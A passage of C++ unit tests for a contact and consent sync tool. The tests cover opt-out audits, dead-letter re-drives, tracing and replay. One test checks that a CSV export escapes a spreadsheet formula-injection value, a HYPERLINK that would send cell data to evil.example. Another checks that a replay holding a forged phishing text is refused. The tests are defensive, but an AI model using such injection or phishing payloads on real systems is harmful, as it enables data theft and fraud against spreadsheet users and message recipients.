  EXPECT_EQ(v[0].systems[0].rfind("aloware", 0), 0u);
  EXPECT_EQ(v[0].business_days, 15);
  o.threshold_business_days = 15;
  ASSERT_TRUE(FindViolations(b.log, o, &v).ok());
  EXPECT_TRUE(v.empty());
  std::ostringstream text;
  EXPECT_EQ(PrintViolations(v, false, text), 0);
}

// An opt-out whose push to Aloware died, set again there by dfm reconcile
// (a re-drive whose cause is the opt-out event itself) and landing: told,
// not "dead, not told", and no violation.
TEST(Audit, AnOptOutSetAgainByReconcileCountsAsTold) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent out = Ev(ev::kOptedOut, "verity");
  out.channel = "sms";
  out.fields["phone"] = "+12055550142";
  out.source_time_us = kFriday;
  const EventId opted_out = b.Add(out, hook);
  DomainEvent req = Ev(ev::kPushRequested, "aloware", "opt_out");
  req.push_id = "c1:aloware:1:opt_out";
  b.Add(req, hook);
  DomainEvent dead = Ev(ev::kPushDeadLettered, "aloware", "opt_out");
  dead.push_id = req.push_id;
  b.Add(dead, hook, kDay);
  DomainEvent again = req;  // reconcile's re-application
  again.push_id = "c1:aloware:1:opt_out:reapply";
  again.detail = std::string(kRedriveDetailPrefix) + opted_out.ToString();
  const EventId replay = b.Webhook();
  b.Add(again, replay, kDay);
  DomainEvent ok = Ev(ev::kPushSucceeded, "aloware", "opt_out");
  ok.push_id = again.push_id;
  b.Add(ok, replay, kDay);

  std::vector<ConsentRecord> records;
  ASSERT_TRUE(CollectConsentRecords(b.log, {}, &records).ok());
  ASSERT_EQ(records.size(), 1u);
  bool told = false;
  for (const auto& t : records[0].told) told |= t.system == "aloware" && t.state == "succeeded";
  EXPECT_TRUE(told) << "told by the re-application";
  ViolationOptions o;
  o.now_us = kFriday + 30 * kDay;
  std::vector<Violation> v;
  ASSERT_TRUE(FindViolations(b.log, o, &v).ok());
  EXPECT_TRUE(v.empty()) << (v.empty() ? "" : v[0].kind + " " + v[0].systems[0]);
}

// An opt-out from Aloware at kFriday carried by `hook`, and its push to
// GoHighLevel, which refused it (kept open); the push.requested.
DomainEvent RefusedGhlOptOut(Built* b, const EventId& hook) {
  DomainEvent out = Ev(ev::kOptedOut, "aloware");
  out.channel = "sms";
  out.fields["phone"] = "+12055550142";
  out.source_time_us = kFriday;
  b->Add(out, hook);
  DomainEvent req = Ev(ev::kPushRequested, "ghl", "opt_out");
  req.channel = "sms";
  req.push_id = "c1:ghl:1:opt_out";
  b->Add(req, hook);
  DomainEvent refused = Ev(ev::kPushAttempted, "ghl", "opt_out");
  refused.push_id = req.push_id;
  refused.outcome = "refused";
  b->Add(refused, hook);
  return req;
}

// A later consent push (`op`, `push_id`) caused by `cause`, `advance_us`
// after the last event, and the connector settling the refused `req`
// (caused by `hook`) as superseded by it.
DomainEvent SupersedeRefused(Built* b, const EventId& hook, const EventId& cause,
                             const DomainEvent& req, const std::string& op,
                             const std::string& push_id, int64_t advance_us) {
  DomainEvent later = Ev(ev::kPushRequested, "ghl", op);
  later.channel = "sms";
  later.push_id = push_id;
  b->Add(later, cause, advance_us);
  DomainEvent dead = Ev(ev::kPushDeadLettered, "ghl", "opt_out");
  dead.push_id = req.push_id;
  dead.outcome = "superseded";
  dead.reason = SupersededReason(op, push_id, "ghl");
  b->Add(dead, hook);
  return later;
}

// The violations `b` shows at `now_us`.
std::vector<Violation> ViolationsAt(const Built& b, int64_t now_us) {
  ViolationOptions o;
  o.now_us = now_us;
  std::vector<Violation> v;
  EXPECT_TRUE(FindViolations(b.log, o, &v).ok());
  return v;
}

// A refused opt-out, then the person's repeated STOP: the connector
// settles the refused push as superseded by the new one, which the system
// takes. The opt-out counts as told then; the new webhook carries no
// opted_out of its own (the channel was out already).
TEST(Audit, ARefusedOptOutSupersededByARepeatedStopCountsAsToldWhenThatLands) {
  Built b;
  const EventId hook = b.Webhook();
  const DomainEvent req = RefusedGhlOptOut(&b, hook);
  const EventId stop = b.Webhook();
  const DomainEvent again =
      SupersedeRefused(&b, hook, stop, req, "opt_out", "c1:ghl:2:opt_out", 3 * kDay);
  DomainEvent ok = Ev(ev::kPushSucceeded, "ghl", "opt_out");
  ok.push_id = again.push_id;
  b.Add(ok, stop, 3 * kDay);

  std::vector<ConsentRecord> records;
  ASSERT_TRUE(CollectConsentRecords(b.log, {}, &records).ok());
  ASSERT_EQ(records.size(), 1u);
  ASSERT_EQ(records[0].told.size(), 1u);
  EXPECT_EQ(records[0].told[0].system, "ghl");
  EXPECT_EQ(records[0].told[0].state, "succeeded") << "told by the push that took its place";
  const std::vector<Violation> v = ViolationsAt(b, kFriday + 30 * kDay);
  EXPECT_TRUE(v.empty()) << (v.empty() ? "" : v[0].kind + " " + v[0].systems[0]);
}

// A refused opt-out the person takes back (START) before the system took
// it: withdrawn, not a slow opt-out.
TEST(Audit, ARefusedOptOutThePersonTookBackIsWithdrawnNotSlow) {
  Built b;
  const EventId hook = b.Webhook();
  const DomainEvent req = RefusedGhlOptOut(&b, hook);
  const EventId start = b.Webhook();
  DomainEvent in = Ev(ev::kOptedIn, "verity");
  in.channel = "sms";
  in.fields["phone"] = "+12055550142";
  in.source_time_us = kFriday + 2 * kDay;
  b.Add(in, start, 2 * kDay);
  SupersedeRefused(&b, hook, start, req, "opt_in", "c1:ghl:2:opt_in", 0);

  std::vector<ConsentRecord> records;
  ASSERT_TRUE(CollectConsentRecords(b.log, {}, &records).ok());
  ASSERT_EQ(records.size(), 2u);
  ASSERT_EQ(records[0].told.size(), 1u);
  EXPECT_EQ(records[0].told[0].state, "withdrawn");
  const std::vector<Violation> v = ViolationsAt(b, kFriday + 30 * kDay);
  EXPECT_TRUE(v.empty()) << (v.empty() ? "" : v[0].kind + " " + v[0].systems[0]);
}

// Taken back only after the threshold: the opt-out was owed until then,
// and late.
TEST(Audit, ARefusedOptOutTakenBackTooLateIsStillSlow) {
  Built b;
  const EventId hook = b.Webhook();
  const DomainEvent req = RefusedGhlOptOut(&b, hook);
  const EventId start = b.Webhook();
  SupersedeRefused(&b, hook, start, req, "opt_in", "c1:ghl:2:opt_in", 21 * kDay);
  const std::vector<Violation> v = ViolationsAt(b, kFriday + 40 * kDay);
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].kind, "slow_opt_out");
  EXPECT_NE(v[0].systems[0].find("withdrawn"), std::string::npos) << v[0].systems[0];
}

TEST(SupersededReason, ReadsBackThePushThatTookThePlace) {
  EXPECT_EQ(SupersedingPush(SupersededReason("opt_out", "c1:ghl:2:opt_out", "ghl")),
            "c1:ghl:2:opt_out");
  EXPECT_EQ(SupersedingPush("superseded by a later opt_in (c (x)) before ghl took it"), "c (x)");
  EXPECT_EQ(SupersedingPush("gave up after 12 attempts"), "");
  EXPECT_EQ(SupersedingPush("superseded by a later opt_in (unclosed"), "");
}

TEST(Audit, SendByTheEngineWhileOptedOutIsAViolationNotBefore) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent created = Ev(ev::kContactCreated, "ghl");
  created.fields["phone"] = "+12055550142";
  b.Add(created, hook);
  DomainEvent sent = Ev(ev::kPushSucceeded, "verity", "send");
  sent.message_key = "ghl:m1";
  b.Add(sent, hook);  // before the opt-out: fine
  DomainEvent out = Ev(ev::kOptedOut, "twilio");
  out.channel = "sms";
  out.fields["phone"] = "+12055550142";
  out.source_time_us = b.clock.NowMicros() + 500;
  b.Add(out, hook);
  sent.message_key = "ghl:m2";
  b.Add(sent, hook, 5000);
  std::vector<Violation> v;
  ASSERT_TRUE(FindViolations(b.log, {}, &v).ok());
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].kind, "outbound_while_opted_out");
  EXPECT_EQ(v[0].message_key, "ghl:m2");
  EXPECT_NE(v[0].how.find("sent by the engine"), std::string::npos);
}

// Email is judged by the address, not the phone: an email-only person who
// unsubscribed and is then emailed is a violation; the email of someone
// who shares a phone number with an opted-out texter is not.
TEST(Audit, AnEmailAfterAnUnsubscribeIsAViolationJudgedByTheAddress) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent created = Ev(ev::kContactCreated, "ghl");
  created.fields["email"] = "ada@example.com";
  b.Add(created, hook);
  DomainEvent out = Ev(ev::kOptedOut, "unsubscribe");
  out.channel = "email";
  out.fields["email"] = "ada@example.com";
  out.source_time_us = b.clock.NowMicros() + 500;
  b.Add(out, hook);
  DomainEvent sent = Ev(ev::kPushSucceeded, "smtp", "send");
  sent.channel = "email";
  sent.message_key = "campaign:nov:1:c1";
  b.Add(sent, hook, 5000);
  // Another contact, texting from a number that opted out of email long
  // ago under someone else, is emailed: not a violation.
  DomainEvent bob = Ev(ev::kContactCreated, "ghl");
  bob.contact_id = "c2";
  bob.fields = {{"email", "bob@example.com"}, {"phone", "+12055550142"}};
  b.Add(bob, hook);
  DomainEvent shared = Ev(ev::kOptedOut, "verity");
  shared.contact_id = "c3";
  shared.channel = "email";
  shared.fields = {{"phone", "+12055550142"}, {"email", "cy@example.com"}};
  b.Add(shared, hook);
  DomainEvent to_bob = sent;
  to_bob.contact_id = "c2";
  to_bob.message_key = "campaign:nov:1:c2";
  b.Add(to_bob, hook, 5000);

  std::vector<Violation> v;
  ASSERT_TRUE(FindViolations(b.log, {}, &v).ok());
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].kind, "outbound_while_opted_out");
  EXPECT_EQ(v[0].contact_id, "c1");
  EXPECT_EQ(v[0].email, "ada@example.com");
  EXPECT_EQ(v[0].channel, "email");
  std::ostringstream table;
  PrintViolations(v, /*json=*/false, table);
  EXPECT_NE(table.str().find("ada@example.com"), std::string::npos) << table.str();
}

// A target that holds contacts only with a phone, never asked about a
// contact that has none: trace says why rather than suspect its connector.
TEST(Trace, ATargetHeldBackForALackingPhoneIsSaidSo) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent created = Ev(ev::kContactCreated, "ghl");
  created.fields["email"] = "ada@example.com";
  b.Add(created, hook);
  TraceOptions o;
  o.scan_webhooks = false;
  o.targets["default"] = {"aloware", "verity"};
  o.key_fields["default"]["aloware"] = "phone";
  Trace t;
  ASSERT_TRUE(BuildTrace(b.log, {{"default", "c1"}}, o, &t).ok());
  ASSERT_EQ(t.contacts.size(), 1u);
  bool held = false, suspected = false;
  for (const auto& f : t.contacts[0].findings) {
    held = held || f.rfind("aloware holds contacts only with a phone", 0) == 0;
    suspected = suspected || f.rfind("verity was never asked", 0) == 0;
  }
  EXPECT_TRUE(held);
  EXPECT_TRUE(suspected) << "a target with no key field is still suspected";
}

TEST(DeadLetters, ListedUntilAReplayNamesThem) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent req = Ev(ev::kPushRequested, "aloware", "upsert");
  req.push_id = "c1:aloware:1";
  EventId req_id = b.Add(req, hook);
  DomainEvent dead = Ev(ev::kPushDeadLettered, "aloware", "upsert");
  dead.push_id = req.push_id;
  dead.reason = "HTTP 422";
  b.Add(dead, req_id);
  std::vector<DeadLetter> found;
  ASSERT_TRUE(FindDeadLetters(b.log, {}, &found).ok());
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].request_id, req_id.ToString());
  EXPECT_EQ(found[0].reason, "HTTP 422");

  Trace t;
  ASSERT_TRUE(BuildTrace(b.log, {{"default", "c1"}}, TraceOptions(), &t).ok());
  ASSERT_EQ(t.contacts.size(), 1u);
  bool explained = false;
  for (const auto& f : t.contacts[0].findings)
    explained = explained || f.find("dfm replay dead-letters --push c1:aloware:1") != std::string::npos;
  EXPECT_TRUE(explained);

  auto requests = RedriveDeadLetters(found, "test");
  // The re-drive says when the push was first asked for (a text's age is
  // judged by it).
  ASSERT_EQ(requests["default"].items.size(), 1u);
  uint64_t req_seq = 0;
  ASSERT_TRUE(b.log.LookupEventId(req_id, &req_seq).ok());
  std::vector<Event> req_event;
  ASSERT_TRUE(b.log.Read(req_seq, 1, &req_event).ok());
  EXPECT_EQ(requests["default"].items[0].asked_at_us, req_event.at(0).recorded_at_us);
  EXPECT_NE(requests["default"].items[0].asked_at_us, 0);
  EventDraft d;
  d.tenant = "default";
  d.stream = kReplayStream;
  d.type = std::string(kReplayRequestedType);
  d.payload = EncodeReplayRequest(requests["default"]);
  AppendOutcome o;
  ASSERT_TRUE(b.log.Append(d, &o).ok());
  ASSERT_TRUE(FindDeadLetters(b.log, {}, &found).ok());
  EXPECT_TRUE(found.empty());

  // Its re-drive, a day later, dies too: listed again, and still aged from
  // when the push was first asked for, not from the re-drive.
  const int64_t first_asked = req_event.at(0).recorded_at_us;
  DomainEvent again = req;
  again.push_id = "c1:aloware:replay" + std::to_string(o.seq) + ":0";
  again.detail = std::string(kRedriveDetailPrefix) + req_id.ToString();
  EventId again_id = b.Add(again, o.id, 24 * 3600 * 1000000LL);
  DomainEvent dead_again = dead;
  dead_again.push_id = again.push_id;
  b.Add(dead_again, again_id);
  ASSERT_TRUE(FindDeadLetters(b.log, {}, &found).ok());
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].request_id, again_id.ToString());
  EXPECT_EQ(found[0].request_at_us, first_asked);
  EXPECT_EQ(RedriveDeadLetters(found, "again")["default"].items.at(0).asked_at_us, first_asked);
}

// POST /v1/admin/replay took items as posted: a text of the caller's choosing,
// no first-asked time. Now each item is rebuilt from the log: a dead push of
// that contact is re-driven as it was asked, once.
TEST(RedriveItems, ADeadTextIsReDrivenAsItWasAskedNeverAsPosted) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent req = Ev(ev::kPushRequested, "verity", "send");
  req.push_id = "c1:verity:1";
  req.fields = {{"body", "Your order shipped"}, {"phone", "+12055550142"}};
  EventId req_id = b.Add(req, hook);
  DomainEvent dead = Ev(ev::kPushDeadLettered, "verity", "send");
  dead.push_id = req.push_id;
  b.Add(dead, req_id);
  uint64_t req_seq = 0;
  ASSERT_TRUE(b.log.LookupEventId(req_id, &req_seq).ok());
  Event asked;
  ASSERT_TRUE(ReadEventBySeq(b.log, req_seq, &asked).ok());

  ReplayRequest posted;
  RedriveItem forged;
  forged.contact_id = "c1";
  forged.cause = req_id.ToString();
  forged.push = req;
  forged.push.fields = {{"body", "Pay now at evil.example"}, {"phone", "+12055550199"}};
  forged.asked_at_us = 0;  // no age
  posted.items.push_back(forged);
  MapperSettings mapper;
  ReplayOptions base;
  base.mapper = &mapper;
  base.context = [](const std::string&) { return SyncContext(); };
  ReplayRequest rebuilt;
  ASSERT_TRUE(RebuildRedriveItems(b.log, "default", posted, base, &rebuilt).ok());
  ASSERT_EQ(rebuilt.items.size(), 1u);
  EXPECT_EQ(rebuilt.items[0].push.fields, req.fields);
  EXPECT_EQ(rebuilt.items[0].asked_at_us, asked.recorded_at_us);

  auto refused = [&](ReplayRequest r, const std::string& tenant = "default") {
    ReplayRequest out;
    Status st = RebuildRedriveItems(b.log, tenant, r, base, &out);
    EXPECT_EQ(st.code(), Status::Code::kInvalidArgument);
    return st.message();
  };
  ReplayRequest other = posted;
  other.items[0].contact_id = "c2";
  EXPECT_NE(refused(other).find("a push of another contact"), std::string::npos);
  EXPECT_NE(refused(posted, "acme").find("no event of tenant acme"), std::string::npos);
  other = posted;
  other.items[0].cause = hook.ToString();  // a webhook whose rules call for no such push
  EXPECT_NE(refused(other).find("no missing send push to verity"), std::string::npos);
  // A missing opt-out to a particular record is decided again too (its tag
  // kept), not built afresh for the contact's records as a reconcile's is.
  other.items[0].push.op = "opt_out";
  other.items[0].push.channel = "sms";
  other.items[0].push.push_id = "c1:verity:1:opt_out:record";
  EXPECT_NE(refused(other).find("no missing opt_out push to verity"), std::string::npos);

  // Once re-driven, its dead letter is not re-driven again.
  EventDraft d;
  d.tenant = "default";
  d.stream = kReplayStream;
  d.type = std::string(kReplayRequestedType);
  d.payload = EncodeReplayRequest(rebuilt);
  AppendOutcome o;
  ASSERT_TRUE(b.log.Append(d, &o).ok());
  EXPECT_NE(refused(posted).find("re-driven by event " + std::to_string(o.seq)), std::string::npos);
}

// The listings say beforehand which texts a re-drive would skip for their
// age (by the command's configuration), as table and as JSON.
TEST(DeadLetters, AListingSaysWhichTextsAreTooOldToReSend) {
  DeadLetter text;
  text.contact = {"default", "c1"};
  text.request = Ev(ev::kPushRequested, "verity", "send");
  text.request.push_id = "c1:verity:3";
  text.request_at_us = kFriday - 30 * 3600 * 1000000LL - 5 * 60 * 1000000LL;
  text.reason = "retries exhausted after 8 attempts: HTTP 503: upstream unavailable, try later";
  text.at_us = kFriday - 29 * 3600 * 1000000LL;
  DeadLetter upsert = text;
  upsert.request = Ev(ev::kPushRequested, "aloware", "upsert");
  upsert.request.push_id = "c1:aloware:4";
  const TextAgeLimit limit{kFriday, 24 * 3600 * 1000000LL};
  EXPECT_EQ(limit.Note(text.request, text.request_at_us), "asked 30 h 05 min ago, limit 24 h");
  EXPECT_EQ(limit.Json(text.request, text.request_at_us), R"({"age_min":1805,"limit_h":24})");
  EXPECT_EQ(limit.Note(upsert.request, upsert.request_at_us), "");
  EXPECT_EQ((TextAgeLimit{kFriday, 0}).Note(text.request, text.request_at_us), "");
  EXPECT_EQ(limit.Note(text.request, 0), "") << "a request that does not say when is not aged";
  std::ostringstream table, json;
  PrintDeadLetters({text, upsert}, false, table, limit);
  PrintDeadLetters({text, upsert}, true, json, limit);
  // Under the table, whole (a long reason does not push it out of its cell).
  EXPECT_NE(table.str().find("1 text(s) too old to re-send"), std::string::npos) << table.str();
  EXPECT_NE(table.str().find("  c1:verity:3: asked 30 h 05 min ago, limit 24 h\n"), std::string::npos)
      << table.str();
  const std::string j = json.str();
  EXPECT_NE(j.find(R"("too_old_to_re_send":{"age_min":1805,"limit_h":24})"), std::string::npos) << j;
  EXPECT_EQ(j.find("too_old_to_re_send"), j.rfind("too_old_to_re_send")) << "the upsert has none";

  // The replay plan: a missing text, aged from its webhook.
  ReplayPlan plan;
  plan.diffs.push_back({"missing", {"default", "c1"}, 12, "01M7YWCNZA7P3NEYT5EM2ZNRES",
                        kFriday - 26 * 3600 * 1000000LL, text.request, {}});
  std::ostringstream ptable, pjson;
  PrintReplayPlan(plan, false, false, ptable, limit);
  PrintReplayPlan(plan, true, false, pjson, limit);
  EXPECT_NE(ptable.str().find("  contact c1, webhook 12: asked 26 h 00 min ago, limit 24 h"),
            std::string::npos)
      << ptable.str();
  EXPECT_NE(pjson.str().find(R"("texts_too_old_to_re_send":1)"), std::string::npos) << pjson.str();
}

TEST(Events, ShowFollowsCausesAndConsequences) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent req = Ev(ev::kPushRequested, "aloware", "upsert");
  req.push_id = "p";
  EventId req_id = b.Add(req, hook);
  DomainEvent ok = Ev(ev::kPushSucceeded, "aloware", "upsert");
  ok.push_id = "p";
  b.Add(ok, req_id);
  std::ostringstream out, err;
  ASSERT_EQ(ShowEvent(b.log, "1", true, false, out, err), 0) << err.str();
  std::string text = out.str();
  EXPECT_NE(text.find("\"role\":\"consequence\",\"depth\":2"), std::string::npos) << text;
  EXPECT_EQ(ShowEvent(b.log, "99", false, false, out, err), 1);

  std::ostringstream listed;
  EventFilter f;
  f.type = "push.*";
  ASSERT_EQ(ListEvents(b.log, f, true, false, listed, err), 0);
  std::string lines = listed.str();
  EXPECT_EQ(std::count(lines.begin(), lines.end(), '\n'), 2);
}

TEST(Events, FiltersBySystemStreamWindowAndLimitAndShowsCauses) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent req = Ev(ev::kPushRequested, "aloware", "upsert");
  req.push_id = "p1";
  EventId req_id = b.Add(req, hook, kDay);
  DomainEvent ok = Ev(ev::kPushSucceeded, "aloware", "upsert");
  ok.push_id = "p1";
  b.Add(ok, req_id, kDay);
  DomainEvent ghl = Ev(ev::kPushRequested, "ghl", "upsert");
  ghl.push_id = "p2";
  b.Add(ghl, hook, kDay);
  auto count = [&](const EventFilter& f) {
    std::ostringstream out, err;
    EXPECT_EQ(ListEvents(b.log, f, true, false, out, err), 0) << err.str();
    std::string t = out.str();
    return std::count(t.begin(), t.end(), '\n');
  };
  EventFilter f;
  f.system = "aloware";
  EXPECT_EQ(count(f), 2);
  f = EventFilter();
  f.stream = "source:verity";
  EXPECT_EQ(count(f), 1);
  f = EventFilter();
  f.from_us = kFriday + kDay;  // the first push.requested only: [from, to)
  f.to_us = kFriday + 2 * kDay;
  EXPECT_EQ(count(f), 1);
  f = EventFilter();
  f.limit = 3;
  EXPECT_EQ(count(f), 3);

  std::ostringstream out, err;
  ASSERT_EQ(ShowEvent(b.log, "3", true, false, out, err), 0);
  std::string text = out.str();
  EXPECT_NE(text.find("\"role\":\"cause\""), std::string::npos) << text;
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 3) << "the event, its push.requested, the webhook";
}

TEST(ToolLog, ContactsResolveByPhoneEmailAndSystemIdWithoutAProjection) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent c = Ev(ev::kContactCreated, "ghl");
  c.external_id = "g1";
  c.fields = {{"phone", "+12055550142"}, {"email", "ann@example.com"}};
  b.Add(c, hook);
  DomainEvent linked = Ev(ev::kContactLinked, "aloware");
  linked.external_id = "77";
  b.Add(linked, hook);
  Normalizer n("US");
  for (const char* name : {"(205) 555-0142", "ANN@example.com", "ghl:g1", "aloware:77", "contact:c1"}) {
    ContactRef r;
    ASSERT_TRUE(ParseContactRef(name, n, &r).ok()) << name;
    std::vector<ContactMatch> found;
    ASSERT_TRUE(ResolveContacts(b.log, r, {"default", "acme"}, &found).ok());
    ASSERT_EQ(found.size(), 1u) << name;
    EXPECT_EQ(found[0].contact_id, "c1");
  }
  ContactRef other;
  ASSERT_TRUE(ParseContactRef("aloware:78", n, &other).ok());
  std::vector<ContactMatch> none;
  ASSERT_TRUE(ResolveContacts(b.log, other, {"default"}, &none).ok());
  EXPECT_TRUE(none.empty());
}

TEST(Audit, AnOptOutNeverToldIsSlowOnceTheThresholdPasses) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent req = OptOutToldToAloware(&b, hook);
  DomainEvent dead = Ev(ev::kPushDeadLettered, "aloware", "opt_out");
  dead.push_id = req.push_id;
  b.Add(dead, hook);
  ViolationOptions o;
  o.now_us = kFriday + 3 * kDay;
  std::vector<Violation> v;
  ASSERT_TRUE(FindViolations(b.log, o, &v).ok());
  EXPECT_TRUE(v.empty()) << "1 business day so far";
  o.now_us = kFriday + 17 * kDay;
  ASSERT_TRUE(FindViolations(b.log, o, &v).ok());
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].systems[0], "aloware (dead, not told)");
  std::vector<ConsentRecord> records;
  ASSERT_TRUE(CollectConsentRecords(b.log, {}, &records).ok());
  std::ostringstream csv, err;
  ASSERT_EQ(PrintConsentRecords(records, "csv", csv, err), 0);
  EXPECT_NE(csv.str().find(",aloware (dead),"), std::string::npos) << csv.str();
}

// An address or a reason is anybody's text: one a spreadsheet would run
// as a formula is written as text ("'" first); a phone number is not.
TEST(Audit, ACsvCellThatWouldRunAsAFormulaIsWrittenAsText) {
  ConsentRecord r;
  r.status = "opted_out";
  r.channel = "email";
  r.phone = "+12055550142";
  r.email = "=HYPERLINK(\"http://evil.example/\"&A2)@x.com";
  r.reason = "-2+3";
  r.cause = "@SUM(1)";
  std::ostringstream csv, err;
  ASSERT_EQ(PrintConsentRecords({r}, "csv", csv, err), 0);
  const std::string row = csv.str().substr(csv.str().find('\n') + 1);
  EXPECT_NE(row.find(",+12055550142,"), std::string::npos) << row;
  EXPECT_NE(row.find(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A2)@x.com\","), std::string::npos)
      << row;
  EXPECT_NE(row.find(",'-2+3,"), std::string::npos) << row;
  EXPECT_NE(row.find(",'@SUM(1),"), std::string::npos) << row;
  EXPECT_EQ(row.find(",=H"), std::string::npos) << row;
}

// Replay options with US numbers and Aloware the one target, holding the phone.
struct AlowareReplay {
  AlowareReplay() {
    mapper.normalizer = &normalizer;
    options.mapper = &mapper;
    options.context = [](const std::string&) {
      SyncContext ctx;
      ctx.conversations.clear();
      ctx.targets["aloware"] = {"phone"};
      return ctx;
    };
  }
  Normalizer normalizer{"US"};
  MapperSettings mapper;
  ReplayOptions options;
};

// Verity's webhook of a text "hello" from +12055550142.
EventDraft VerityHello() {
  WebhookReceived w;
  w.system = "verity";
  w.provider_event_id = "message.received:m1";
  w.body = R"({"eventType":"message.received","messageId":"m1","conversationId":"chat_1",)"
           R"("direction":"inbound","from":"+12055550142","to":"+12055550100","body":"hello",)"
           R"("timestamp":"2026-11-20T15:00:00.000Z"})";
  return WebhookDraft("default", w);
}

// VerityHello appended to `b`, and the contact it made (created, nothing
// pushed then): the contact's id; *hook is the webhook's.
std::string HelloMadeAContact(Built* b, EventId* hook) {
  AppendOutcome o;
  EXPECT_TRUE(b->log.Append(VerityHello(), &o).ok());
  *hook = o.id;
  const std::string contact = NewContactId(o.id);
  DomainEvent created = Ev(ev::kContactCreated, "verity");
  created.contact_id = contact;
  created.fields["phone"] = "+12055550142";
  b->Add(created, o.id);
  return contact;
}

TEST(Replay, PushesRequestedThenAreComparedWithTheCurrentRules) {
  Built b;
  EventDraft hook = VerityHello();
  AppendOutcome o;
  ASSERT_TRUE(b.log.Append(hook, &o).ok());
  std::string contact = NewContactId(o.id);
  DomainEvent created = Ev(ev::kContactCreated, "verity");
  created.contact_id = contact;
  created.fields["phone"] = "+12055550142";
  b.Add(created, o.id);
  DomainEvent then = Ev(ev::kPushRequested, "aloware", "upsert");
  then.contact_id = contact;
  then.push_id = contact + ":aloware:1";
  then.fields = {{"phone", "+12055550142"}, {"first_name", "Old"}};
  b.Add(then, o.id);

  AlowareReplay setup;
  ReplayOptions& ro = setup.options;
  ReplayPlan plan;
  ASSERT_TRUE(PlanReplay(b.log, ro, &plan).ok());
  ASSERT_EQ(plan.diffs.size(), 1u);
  EXPECT_EQ(plan.diffs[0].kind, "different");
  EXPECT_EQ(plan.diffs[0].now.fields.count("first_name"), 0u);
  EXPECT_EQ(plan.diffs[0].then.fields.at("first_name"), "Old");

  // The mappings loaded once by the command (for --contact too) give the
  // same plan as PlanReplay's own load.
  MappingsView view(b.log);
  ASSERT_TRUE(view.Load().ok());
  ContactRef ref;
  ref.kind = ContactRef::Kind::kPhone;
  ref.value = "+12055550142";
  std::vector<ContactMatch> named;
  ASSERT_TRUE(ResolveContacts(view, b.log, ref, {"default"}, &named).ok());
  ASSERT_EQ(named.size(), 1u);
  EXPECT_EQ(named[0].contact_id, contact);
  ReplayOptions with_view = ro;
  with_view.mappings = &view;
  with_view.contacts = named;
  ReplayPlan same;
  ASSERT_TRUE(PlanReplay(b.log, with_view, &same).ok());
  ASSERT_EQ(same.diffs.size(), 1u);
  EXPECT_EQ(same.diffs[0].kind, "different");
  EXPECT_EQ(same.webhooks, plan.webhooks);
  EXPECT_EQ(same.facts, plan.facts);
  EXPECT_EQ(same.contacts, plan.contacts);

  ro.context = [](const std::string&) {
    SyncContext ctx;
    ctx.conversations.clear();
    return ctx;  // Aloware no longer a target
  };
  ASSERT_TRUE(PlanReplay(b.log, ro, &plan).ok());
  ASSERT_EQ(plan.diffs.size(), 1u);
  EXPECT_EQ(plan.diffs[0].kind, "extra");
  EXPECT_TRUE(RedriveMissing(plan, "r").empty()) << "only missing pushes are re-driven";
  ro.system = "ghl";
  ASSERT_TRUE(PlanReplay(b.log, ro, &plan).ok());
  EXPECT_TRUE(plan.diffs.empty()) << "--system keeps only pushes to that system";
}

// Two facts of one webhook that asked the same of one system then (two
// upserts to Aloware, a batch's): each is matched with its own fact's, so
// the one the rules call for no more is told extra, not taken for the other.
TEST(Replay, PushesOfTwoFactsOfOneWebhookAreToldApart) {
  Built b;
  EventId hook;
  HelloMadeAContact(&b, &hook);
  AlowareReplay setup;
  ReplayPlan first;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &first).ok());
  ASSERT_EQ(first.diffs.size(), 1u);
  ASSERT_EQ(first.diffs[0].kind, "missing");
  const DomainEvent upsert = first.diffs[0].now;  // fact 0's, as the rules call for it
  ASSERT_EQ(upsert.op, "upsert");
  ASSERT_EQ(upsert.fact_index, 0u);
  DomainEvent second = upsert;  // fact 1's: the rules call for none now
  second.fact_index = 1;
  second.push_id += ".1";
  second.fields["first_name"] = "Ann";
  b.Add(upsert, hook);
  b.Add(second, hook);

  ReplayPlan plan;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &plan).ok());
  EXPECT_EQ(plan.same, 1u);
  ASSERT_EQ(plan.diffs.size(), 1u);
  EXPECT_EQ(plan.diffs[0].kind, "extra");
  EXPECT_EQ(plan.diffs[0].then.fact_index, 1u);
  EXPECT_EQ(plan.diffs[0].then.fields.at("first_name"), "Ann");
}

// A HaloPSA batch updating one user twice, each update asking Aloware for
// an upsert that the log holds neither of: two missing pushes, each
// re-driven once (by its push id); an item naming neither, or one named
// twice, is refused.
TEST(Replay, TwoFactsMissingTheSamePushAreEachReDrivenOnce) {
  Built b;
  WebhookReceived w;
  w.system = "halopsa";
  w.provider_event_id = "batch-1";
  w.body = R"([{"id":"e1","event":"user updated","object_id":1,"user":{"id":1,"firstname":"Ann",)"
           R"("emailaddress":"ann@umbrella-labs.com"}},)"
           R"({"id":"e2","event":"user updated","object_id":1,"user":{"id":1,"firstname":"Annie",)"
           R"("emailaddress":"ann@umbrella-labs.com"}}])";
  AppendOutcome o;
  ASSERT_TRUE(b.log.Append(WebhookDraft("default", w), &o).ok());
  const std::string contact = NewContactId(o.id);
  DomainEvent created = Ev(ev::kContactCreated, "halopsa");
  created.contact_id = contact;
  created.external_id = "1";
  created.fields = {{"email", "ann@umbrella-labs.com"}, {"first_name", "Ann"}};
  b.Add(created, o.id);
  AlowareReplay setup;
  setup.options.context = [](const std::string&) {
    SyncContext ctx;
    ctx.conversations.clear();
